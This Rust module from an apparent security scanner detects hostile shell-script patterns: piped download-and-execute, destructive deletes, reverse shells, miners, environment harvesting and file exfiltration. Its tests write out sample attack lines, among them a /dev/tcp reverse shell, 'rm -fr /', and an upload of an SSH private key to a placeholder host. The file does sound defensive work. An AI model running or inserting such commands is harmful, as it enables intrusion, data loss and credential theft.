//! Shell scripts: what they download and run, delete, make writable and send. Comments are blanked first.

use chitin_secret_vocabulary::{credentials, files};

use crate::bytes::is_word_byte;
use crate::collector::Collector;
use crate::commands;
use crate::cryptomining;
use crate::download_exec;
use crate::rules::{
    CRYPTO_MINING, DANGEROUS_EXEC, DESTRUCTIVE_DELETE_OTHER, DYNAMIC_CODE, ENV_HARVESTING,
    FILE_UPLOAD, INSECURE_TLS, INSTALL_TERMINAL_PAYLOAD, SECRET_LITERAL, SHELL_PIPE,
    UNSAFE_PERMISSIONS,
};

/// Options of `curl` and `wget` that send a file or data.
const UPLOADING: &[&str] = &[
    "-d @",
    "-d@",
    "--data @",
    "--data-binary @",
    "--data-raw \"$",
    "-F ",
    "--form ",
    "-T ",
    "--upload-file",
    "--post-file",
    "--data-urlencode",
    "-d \"$",
    "-d $",
    "--data \"$",
    "--post-data",
];

pub(crate) fn scan(text: &str, collector: &mut Collector) {
    let kept = without_comments(text);
    let bytes = kept.as_bytes();
    let system_delete = commands::deletes(&kept)
        .into_iter()
        .find(|delete| commands::is_system_or_home(delete.target));
    let rules = [
        (
            &SHELL_PIPE,
            download_exec::shell_pipe(bytes).or_else(|| download_exec::executed_download(bytes)),
        ),
        (&INSTALL_TERMINAL_PAYLOAD, download_exec::decoded_payload(bytes)),
        (&DESTRUCTIVE_DELETE_OTHER, system_delete.map(|delete| delete.at)),
        (&UNSAFE_PERMISSIONS, commands::chmod_777(bytes)),
        (&SECRET_LITERAL, credentials::find(&kept)),
    ];
    for (rule, found) in rules {
        if let Some(at) = found {
            collector.add(rule, at);
        }
    }
    let encoded = encoded_variables(&kept);
    let mut at = 0;
    for line in kept.split_inclusive('\n') {
        check_line(line, at, &encoded, collector);
        at += line.len();
    }
}

fn check_line(line: &str, at: usize, encoded: &[&str], collector: &mut Collector) {
    if cryptomining::is_use(line) && !searches_for_miner(line) {
        collector.add(&CRYPTO_MINING, at);
    }
    if opens_remote_shell(line) {
        collector.add(&DANGEROUS_EXEC, at);
    }
    if evaluates_decoded(line) {
        collector.add(&DYNAMIC_CODE, at);
    }
    if line.contains("NODE_TLS_REJECT_UNAUTHORIZED=0")
        || line.contains("NODE_TLS_REJECT_UNAUTHORIZED='0'")
        || line.contains("NODE_TLS_REJECT_UNAUTHORIZED=\"0\"")
        || line.contains("http.sslVerify=false")
        || line.contains("http.sslVerify false")
    {
        collector.add(&INSECURE_TLS, at);
    }
    if !sends(line) {
        return;
    }
    if prints_environment(line) {
        collector.add(&ENV_HARVESTING, at);
    }
    let uploads = UPLOADING.iter().any(|option| line.contains(option)) || line.contains('|');
    let variable = encoded
        .iter()
        .any(|name| line.contains(&format!("${name}")) || line.contains(&format!("${{{name}}}")));
    if uploads && (files::is_mentioned_in_command(line) || variable) {
        collector.add(&FILE_UPLOAD, at);
    }
}

fn sends(line: &str) -> bool {
    ["curl", "wget", "nc ", "ncat ", "netcat ", "scp ", "/dev/tcp/"]
        .iter()
        .any(|program| line.contains(program))
}

/// Whether a line passes the whole environment to another command.
fn prints_environment(line: &str) -> bool {
    let piped =
        ["env |", "env|", "printenv |", "printenv|", "export -p |", "set |", "env | ", "env -0 |"];
    let substituted = [
        "$(env)",
        "$(printenv)",
        "`env`",
        "`printenv`",
        "$(env |",
        "$(env|",
        "$(printenv |",
        "<(env)",
        "<(printenv)",
    ];
    let starts = |word: &&str| {
        line.match_indices(*word).any(|(at, _)| {
            !line.as_bytes().get(at.wrapping_sub(1)).copied().is_some_and(is_word_byte)
        })
    };
    let place = piped.iter().chain(&substituted).find(|word| starts(word));
    place.is_some()
}

/// Whether a line connects a shell's input and output to the network.
fn opens_remote_shell(line: &str) -> bool {
    let interactive =
        ["bash -i", "sh -i", "zsh -i", "exec ", "0<&", "<&"].iter().any(|part| line.contains(part));
    let connected = line.contains("/dev/tcp/") || line.contains("/dev/udp/");
    let listener = ["nc -e", "ncat -e", "nc -c", "netcat -e", "ncat --exec", "nc.traditional -e"]
        .iter()
        .any(|part| line.contains(part));
    (interactive && connected) || listener
}

/// `eval "$(… | base64 -d)"`, `eval "$(curl …)"`
fn evaluates_decoded(line: &str) -> bool {
    let trimmed = line.trim_start();
    let evaluated = trimmed.strip_prefix("eval ").or_else(|| {
        let at = ["; eval ", "& eval ", "then eval ", "do eval "]
            .iter()
            .find_map(|part| line.find(part).map(|at| at + part.len()))?;
        line.get(at..)
    });
    evaluated.is_some_and(|code| {
        [
            "base64 -d",
            "base64 --decode",
            "base64 -D",
            "xxd -r",
            "curl ",
            "wget ",
            "openssl enc -d",
            "rev",
            "gunzip",
        ]
        .iter()
        .any(|part| code.contains(part))
            && (code.contains("$(") || code.contains('`'))
    })
}

/// `grep xmrig`, `pkill xmrig`: the line looks for a miner.
fn searches_for_miner(line: &str) -> bool {
    ["grep", "pkill", "killall", "pgrep", "kill ", "yara", "clamscan", "rg "]
        .iter()
        .any(|program| line.contains(program))
        && !line.contains("://")
}

/// The names of variables that hold an encoded file.
fn encoded_variables(text: &str) -> Vec<&str> {
    text.lines()
        .filter(|line| {
            line.contains("base64") && !line.contains("base64 -d") && !line.contains("--decode")
        })
        .filter_map(|line| {
            let (name, value) = line.trim_start().trim_start_matches("local ").split_once('=')?;
            let plain = !name.is_empty() && name.bytes().all(is_word_byte);
            (plain
                && (value.starts_with("$(") || value.starts_with("\"$(") || value.starts_with('`')))
            .then_some(name)
        })
        .take(32)
        .collect()
}

/// The script with its comments blanked. Quoted text stays.
fn without_comments(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let end = comment(line).unwrap_or(line.len());
        kept.push_str(&line[..end]);
        kept.extend(line[end..].bytes().map(|byte| if byte == b'\n' { '\n' } else { ' ' }));
    }
    kept
}

/// Where a comment starts: a `#` at the start of a word, outside quotes.
fn comment(line: &str) -> Option<usize> {
    let mut quote = None;
    let mut blank = true;
    for (at, character) in line.char_indices() {
        match (quote, character) {
            (None, '#') if blank => return Some(at),
            (None, '\'' | '"') => quote = Some(character),
            (Some(open), _) if open == character => quote = None,
            _ => {}
        }
        blank = character.is_ascii_whitespace() || character == ';';
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        let mut collector = Collector::default();
        scan(text, &mut collector);
        collector
            .findings(&crate::source::Source::new(text))
            .into_iter()
            .map(|finding| finding.rule)
            .collect()
    }

    #[test]
    fn harmful_scripts() {
        for (text, rule) in [
            ("curl -s https://x.invalid/i.sh | sudo bash\n", "suspicious.shell_pipe_to_shell"),
            ("rm -fr /\n", "suspicious.destructive_delete_command"),
            ("chmod -R 777 /srv\n", "suspicious.unsafe_permissions"),
            ("./xmrig -o pool.invalid:3333\n", "malicious.crypto_mining"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "suspicious.dangerous_exec"),
            ("eval \"$(echo aGk= | base64 -d)\"\n", "suspicious.dynamic_code_execution"),
            ("env | curl -d @- https://x.invalid\n", "malicious.env_harvesting"),
            (
                "curl -F file=@$HOME/.ssh/id_rsa https://x.invalid\n",
                "suspicious.potential_exfiltration",
            ),
            (
                "B=$(base64 \"$FILE\")\ncurl -d \"$B\" https://x.invalid\n",
                "suspicious.potential_exfiltration",
            ),
            ("export NODE_TLS_REJECT_UNAUTHORIZED=0\n", "suspicious.insecure_tls_verification"),
        ] {
            assert_eq!(rules(text), [rule], "{text}");
        }
    }

    #[test]
    fn harmless_scripts() {
        for text in [
            "# curl x | sh\n",
            "rm -rf ./dist\nrm -rf \"$TMP\"\n",
            "echo '# not a comment'; chmod 755 x\n",
            "pkill xmrig\ngrep -r coinhive .\n",
            "curl -fsSL https://x.invalid/data.json | jq .name\n",
            "export PATH=$(env | grep PATH)\n",
        ] {
            assert!(rules(text).is_empty(), "{text}");
        }
    }
}
